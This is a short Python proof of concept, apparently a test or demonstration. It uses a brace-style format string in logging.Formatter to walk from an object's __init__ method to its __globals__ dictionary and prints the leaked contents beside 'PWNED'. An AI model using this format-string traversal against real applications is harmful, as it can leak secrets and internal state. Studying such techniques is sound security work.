import logging


class Message:
    def __init__(self):
        pass

    def __str__(self):
        return ""


text = logging.Formatter("{msg.__init__.__globals__}", style="{").format(logging.makeLogRecord({"msg": Message()}))
print("PWNED", text[:40])
